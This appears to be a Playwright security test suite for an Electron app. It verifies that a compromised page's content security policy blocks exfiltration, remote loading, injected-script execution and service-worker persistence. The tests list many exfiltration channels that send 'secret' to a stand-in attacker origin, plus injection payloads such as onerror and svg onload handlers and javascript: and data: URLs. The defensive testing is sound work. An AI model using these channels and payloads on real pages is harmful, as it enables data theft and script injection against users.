import { expect } from '@playwright/test';
import { toldTo, test, violations, watchPolicy } from '../support/hostile-page.ts';

/** As text: it is the page that imports, and nobody could say what. */
const importOfThePage = 'window.load = (address) => import(address)';

test.describe('a page that was taken over', () => {
  test('sends nothing and loads nothing, by whatever the platform offers for it', async ({ taken: { page }, post }) => {
    await watchPolicy(page);
    await page.evaluate(importOfThePage);

    const tried = await page.evaluate((origin) => {
      const at = (name: string) => `${origin}/${name}`;
      const add = <Tag extends keyof HTMLElementTagNameMap>(tag: Tag, over: Partial<HTMLElementTagNameMap[Tag]>) =>
        document.body.append(Object.assign(document.createElement(tag), over));
      const style = `@import url(${at('import')}); body { background: url(${at('background')}) }`;
      const attempts: Readonly<Record<string, (address: string) => unknown>> = {
        fetch: async (address) => fetch(address),
        opaque: async (address) => fetch(address, { mode: 'no-cors', method: 'POST', body: 'secret' }),
        beacon: (address) => navigator.sendBeacon(address, 'secret'),
        request: (address) => {
          const request = new XMLHttpRequest();
          request.open('GET', address);
          request.send();
        },
        socket: (address) => new WebSocket(address.replace('http', 'ws')),
        events: (address) => new EventSource(address),
        picture: (src) => add('img', { src }),
        script: (src) => add('script', { src }),
        module: async (address) => Reflect.get(window, 'load')(address),
        sheet: (href) => add('link', { rel: 'stylesheet', href }),
        prefetched: (href) => add('link', { rel: 'prefetch', href }),
        preloaded: (href) => add('link', { rel: 'preload', as: 'image', href }),
        icon: (href) => add('link', { rel: 'icon', href }),
        font: async (address) => new FontFace('Stolen', `url(${address})`).load(),
        import: () => add('style', { textContent: style }),
        background: () => null,
        film: (src) => add('video', { src }),
        sound: async (address) => new Audio(address).play(),
        ping: (ping) => {
          const link = Object.assign(document.createElement('a'), { href: '#here', ping });
          link.click();
        },
      };
      // Only browsers that install apps would read a manifest at all.
      add('link', { rel: 'manifest', href: at('manifest') });
      // The policy names their origins alone.
      add('iframe', { src: at('frame') });
      add('object', { data: at('object') });
      add('embed', { src: at('embedded') });
      for (const [name, attempt] of Object.entries(attempts)) {
        const begun = (async () => attempt(at(name)))();
        // How it fails differs; that it does is seen by what the policy notes.
        begun.catch(() => null);
      }
      return Object.keys(attempts);
    }, post.origin);

    const unrefused = async () => {
      const noted = await violations(page);
      return tried.filter((name) => !noted.some((violation) => violation.endsWith(`/${name}`)));
    };
    await expect.poll(unrefused).toEqual([]);
    await expect
      .poll(() => violations(page))
      .toEqual(expect.arrayContaining([`frame-src ${post.origin}`, `object-src ${post.origin}`]));
    expect(toldTo(post)).toEqual([]);
  });

  test('runs no text as code, in no thread of its own', async ({ taken: { page } }) => {
    await watchPolicy(page);
    await page.evaluate(importOfThePage);

    await page.evaluate(() => {
      const run = "window.isTaken = true; globalThis.postMessage?.('taken')";
      const blob = (type: string, text = run) => URL.createObjectURL(new Blob([text], { type }));
      const add = <Tag extends keyof HTMLElementTagNameMap>(tag: Tag, over: Partial<HTMLElementTagNameMap[Tag]>) =>
        document.body.append(Object.assign(document.createElement(tag), over));
      const attempts: readonly (() => unknown)[] = [
        () => Reflect.apply(Reflect.get(globalThis, 'eval') as () => void, null, [run]),
        () => Reflect.construct(Function, [run])(),
        () => Reflect.construct((async () => {}).constructor, [run])(),
        () => Reflect.apply(setTimeout, window, [run]),
        () => add('script', { textContent: run }),
        () => add('script', { src: blob('text/javascript') }),
        () => add('script', { src: `data:text/javascript,${run}` }),
        () => add('div', { innerHTML: `<img src="/no-such.png" onerror="${run}">` }),
        () => add('div', { innerHTML: `<svg onload="${run}"></svg>` }),
        () => add('iframe', { srcdoc: `<script>parent.isTaken = true</script>` }),
        () => add('iframe', { src: `javascript:parent.isTaken = true` }),
        () => new Worker(blob('text/javascript')),
        () => new Worker(`data:text/javascript,${run}`),
        () => new SharedWorker(`data:text/javascript,${run}`),
        async () => Reflect.get(window, 'load')(blob('text/javascript')),
        async () => Reflect.get(window, 'load')(`data:text/javascript,${run}`),
        async () => WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)),
      ];
      // From a timer: what a debugger runs may evaluate text, a page may not.
      setTimeout(() => {
        for (const attempt of attempts) (async () => attempt())().catch(() => null);
        document.title = 'All tried';
      });
    });

    await expect(page).toHaveTitle('All tried');
    const refusals = [
      'script-src eval',
      'script-src wasm-eval',
      'script-src-attr inline',
      'script-src-elem blob',
      'script-src-elem data',
      'script-src-elem inline',
      'worker-src blob',
      'worker-src data',
    ];
    await expect.poll(async () => new Set(await violations(page))).toEqual(new Set(refusals));
    expect(await page.evaluate('window.isTaken')).toBeUndefined();
  });

  test('finds nothing to keep running when its window is closed', async ({ taken: { page } }) => {
    const scripts = await page.evaluate(() => Array.from(document.scripts, ({ src }) => src));

    for (const script of ['/sw.js', '/service-worker.js', ...scripts, 'data:text/javascript,1']) {
      const registered = page.evaluate(async (script) => {
        await navigator.serviceWorker.register(script);
      }, script);
      await expect(registered, script).rejects.toThrow();
    }
  });

  test('reaches nobody by WebRTC or by connections made early, which no policy holds back', async ({
    console: desktop,
    hub,
  }) => {
    const { app } = await desktop.start(`--hub=${hub.origin}`);

    const ways = await app.evaluate(async ({ BrowserWindow, session }, hub) => {
      const { defaultSession } = session;
      return {
        peers: BrowserWindow.getAllWindows().map(({ webContents }) => webContents.getWebRTCIPHandlingPolicy()),
        elsewhere: await defaultSession.resolveProxy('https://evil.example/'),
        here: await defaultSession.resolveProxy('http://127.0.0.1:1/'),
        wordLists: await defaultSession.resolveProxy(`${hub}/dictionaries/en-US.bdic`),
      };
    }, hub.origin);

    expect(ways).toEqual({
      peers: ['disable_non_proxied_udp'],
      elsewhere: 'SOCKS5 127.0.0.1:1',
      here: 'SOCKS5 127.0.0.1:1',
      wordLists: 'DIRECT',
    });
  });
});
